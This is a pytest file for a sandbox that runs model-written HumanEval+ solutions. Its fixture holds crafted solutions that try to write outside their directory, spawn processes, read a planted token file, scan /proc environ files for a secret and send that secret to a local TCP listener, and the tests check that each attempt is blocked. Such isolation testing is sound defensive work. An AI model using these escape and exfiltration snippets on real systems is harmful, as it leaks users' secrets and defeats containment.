"""Model-written code runs in the sandbox: crafted HumanEval+ solutions that still pass their tests try to write
outside their temp dir, spawn a process, read a planted token file and environment secrets, and send a secret to a
TCP listener on 127.0.0.1. Each attempt fails in the sandbox, while the SAME attempts all succeed when EvalPlus's
worker runs as the user (what coloc did before), so the test can fail; correct solutions still pass, wrong fail.

A solution is scored "passed" only if its attack failed: ``add`` returns ``x + y`` plus 1 when any try succeeded.
"""

from __future__ import annotations

import json
import os
import secrets
import shutil
import socket
import subprocess
import sys
import textwrap
import uuid
from pathlib import Path

import pytest

from coloc_ray.evaluation import data, evalplus_worker
from coloc_ray.evaluation import humanevalplus as hp
from tests.conftest import REPO

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="the full sandbox needs root (CI and docker have it)")
TASK = "HumanEval/53"  # add(x, y): fast ground truth



def _tmp_allowed(work) -> list[str]:
    """What the sandbox's private /tmp may show: the work dir, and the Python install where it lives under /tmp
    (a checkout under /tmp, as in a CI clone, has its venv there: put back read-only, so its top folder shows)."""
    from coloc_ray.evaluation.sandbox import python_paths

    tops = {Path(work).relative_to("/tmp").parts[0]}
    tops |= {Path(p).relative_to("/tmp").parts[0] for p in python_paths() if Path(p).is_relative_to("/tmp")}
    return sorted(tops)

def _solution(tries: list[str], setup: str = "") -> str:
    """A correct ``add`` that is off by one iff one of ``tries`` (code blocks) ran without raising."""
    funcs = "\n".join(f"def _try{i}():\n{textwrap.indent(t.strip(), '    ')}\n" for i, t in enumerate(tries))
    return (f"{setup}\n{funcs}\n"
            "def _escaped():\n"
            "    hits = 0\n"
            f"    for fn in ({', '.join(f'_try{i}' for i in range(len(tries)))},):\n"
            "        try:\n"
            "            fn()\n"
            "            hits += 1\n"
            "        except BaseException:\n"
            "            pass\n"
            "    return hits > 0\n\n"
            "_ESCAPED = _escaped()\n\n"
            "def add(x: int, y: int):\n"
            "    return x + y + (1 if _ESCAPED else 0)\n")


@pytest.fixture()
def attack(tmp_path):
    """The planted targets (token file, a root-only process holding a secret, a listener) and the solutions."""
    secret = "s3cret-" + secrets.token_hex(8)
    token = tmp_path / "ray_token"
    token.write_text(secret)
    token.chmod(0o600)
    outside = [tmp_path / "escaped.txt", REPO.parent / f"coloc-escape-{uuid.uuid4().hex[:8]}"]
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.settimeout(0.5)
    holder = subprocess.Popen(["sleep", "300"], env={"COLOC_TEST_API_TOKEN": secret}, start_new_session=True)
    port = listener.getsockname()[1]
    sols = {
        f"{TASK}#write": _solution([f"import io\nio.open({str(p)!r}, 'w').write('escaped')" for p in outside]),
        f"{TASK}#spawn": _solution([
            "import posix\npid = posix.fork()\nif pid == 0:\n    posix._exit(0)\nposix.waitpid(pid, 0)",
            "import posix\npid = posix.posix_spawn('/bin/true', ['/bin/true'], {})\nposix.waitpid(pid, 0)"]),
        f"{TASK}#token": _solution([f"import io\nassert io.open({str(token)!r}).read() == {secret!r}"]),
        f"{TASK}#env": _solution([
            f"import posix\nassert any({secret!r}.encode() in v for v in posix.environ.values())",
            "import posix, io\n"
            "found = False\n"
            "for pid in posix.listdir('/proc'):\n"
            "    try:\n"
            f"        found = found or {secret!r}.encode() in io.open('/proc/' + pid + '/environ', 'rb').read()\n"
            "    except OSError:\n"
            "        pass\n"
            "assert found"]),
        f"{TASK}#network": _solution([
            f"import socket\ns = socket.create_connection(('127.0.0.1', {port}), timeout=3)\n"
            f"s.sendall({secret!r}.encode())\ns.close()"]),
    }
    yield {"secret": secret, "outside": outside, "listener": listener, "solutions": sols}
    holder.kill()
    holder.wait()
    listener.close()
    for p in outside:
        p.unlink(missing_ok=True)


def _received(listener) -> list[bytes]:
    got = []
    while True:
        try:
            conn, _ = listener.accept()
        except (TimeoutError, socket.timeout):
            return got
        conn.settimeout(2)
        got.append(conn.recv(100))
        conn.close()


def _score_as_user(solutions: dict, d: Path) -> dict:
    """The same EvalPlus worker run the way coloc ran it before: as this user, with this environment."""
    shutil.copyfile(data.shared_data_dir() / "humanevalplus" / hp.HUMANEVAL_FILE, d / hp.HUMANEVAL_FILE)
    (d / "req.json").write_text(json.dumps({"solutions": solutions, "n_workers": 2}))
    env = {**os.environ, "HUMANEVAL_OVERRIDE_PATH": str(d / hp.HUMANEVAL_FILE), "XDG_CACHE_HOME": str(d / "xdg")}
    subprocess.run([sys.executable, evalplus_worker.__file__, "req.json", "res.json"], cwd=d, env=env,
                   check=True, timeout=600, capture_output=True)
    return json.loads((d / "res.json").read_text())


def test_every_attack_fails_in_the_sandbox_and_succeeds_without_it(attack, tmp_path, monkeypatch):
    monkeypatch.setenv("COLOC_TEST_API_TOKEN", attack["secret"])  # an env secret of the evaluating process
    monkeypatch.setenv("COLOC_SANDBOX", "strict")  # a missing isolation layer is an error, not a warning
    problem = {t["task_id"]: t for t in data.load_humanevalplus()}[TASK]
    sols = {**attack["solutions"], TASK: problem["prompt"] + problem["canonical_solution"],
            f"{TASK}#wrong": problem["prompt"] + "    return x - y\n"}

    boxed = hp.score_solutions(sols)
    assert boxed[TASK]["passed"] and not boxed[f"{TASK}#wrong"]["passed"]
    blocked = {k.split("#")[1]: v["passed"] for k, v in boxed.items() if k in attack["solutions"]}
    assert blocked == {"write": True, "spawn": True, "token": True, "env": True, "network": True}, boxed
    assert not any(p.exists() for p in attack["outside"])
    assert _received(attack["listener"]) == []

    # The control: run as the user, every attack gets through (so a passing sandbox test means something).
    (tmp_path / "asuser").mkdir()
    bare = _score_as_user(attack["solutions"], tmp_path / "asuser")
    assert not any(v["passed"] for v in bare.values()), bare
    assert all(p.read_text() == "escaped" for p in attack["outside"])
    assert set(_received(attack["listener"])) == {attack["secret"].encode()}  # once per EvalPlus test set


def test_sandboxed_child_sees_no_user_env_files_or_root(tmp_path, monkeypatch):
    from coloc_ray.evaluation import sandbox

    monkeypatch.setenv("COLOC_TEST_API_TOKEN", "leak-me")
    probe = tmp_path / "probe.py"
    probe.write_text(textwrap.dedent(f"""
        import json, os
        out = {{"uid": os.getuid(), "env": sorted(os.environ), "cwd": os.getcwd(),
                "home_listing": os.listdir(os.path.expanduser("~")),
                "repo_visible": os.path.exists({str(REPO / "pyproject.toml")!r}),
                "tmp_listing": os.listdir("/tmp")}}
        json.dump(out, open("probe.json", "w"))
    """))
    work = tmp_path / "work"
    work.mkdir()
    shutil.copyfile(probe, work / "probe.py")
    env = {"PATH": "/usr/bin:/bin", "HOME": str(work)}
    spec = sandbox.build_spec([sys.executable, "-I", "probe.py"], str(work), env)
    rc, _, err, iso = sandbox.run_sandboxed(spec, 60)
    assert rc == 0, err
    assert all(iso[k] for k in sandbox.LAYERS), iso
    got = json.loads((work / "probe.json").read_text())
    assert got["uid"] != 0 and got["cwd"] == str(work)
    assert set(got["env"]) - {"LC_CTYPE"} == {"HOME", "PATH"}  # LC_CTYPE: Python's own C-locale coercion
    assert not got["repo_visible"]  # the checkout (and its .env, studies, runs) is hidden
    if str(work).startswith("/tmp/"):  # /tmp is a private tmpfs: only the path down to the work dir is in it
        assert sorted(got["tmp_listing"]) == _tmp_allowed(work)


def test_wall_clock_limit_kills_the_child(tmp_path):
    from coloc_ray.evaluation import sandbox

    (tmp_path / "loop.py").write_text("while True:\n    pass\n")
    spec = sandbox.build_spec([sys.executable, "-I", "loop.py"], str(tmp_path), {"PATH": "/usr/bin:/bin"})
    with pytest.raises(TimeoutError, match="killed"):
        sandbox.run_sandboxed(spec, 3)


def test_user_namespace_path_for_non_root_isolates_network_and_files(tmp_path):
    """The launcher's non-root path (``userns``: a user namespace of its own), forced here while running as root:
    no network, the checkout hidden, /tmp private; the uid layer is reported missing, not claimed."""
    from coloc_ray.evaluation import sandbox

    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    work = tmp_path / "work"
    work.mkdir()
    (work / "probe.py").write_text(textwrap.dedent(f"""
        import json, os, socket
        try:
            socket.create_connection(("127.0.0.1", {listener.getsockname()[1]}), timeout=3).close()
            net = "connected"
        except OSError as e:
            net = type(e).__name__
        json.dump({{"net": net, "repo_visible": os.path.exists({str(REPO / "pyproject.toml")!r}),
                   "tmp_listing": os.listdir("/tmp")}}, open("probe.json", "w"))
    """))
    spec = sandbox.build_spec([sys.executable, "-I", "probe.py"], str(work), {"PATH": "/usr/bin:/bin"})
    rc, _, err, iso = sandbox.run_sandboxed({**spec, "userns": True}, 60)
    listener.close()
    assert rc == 0, err
    assert iso["network_namespace"] and iso["mount_namespace"] and not iso["unprivileged_uid"], iso
    got = json.loads((work / "probe.json").read_text())
    assert got["net"] != "connected" and not got["repo_visible"]
    assert sorted(got["tmp_listing"]) == _tmp_allowed(work)
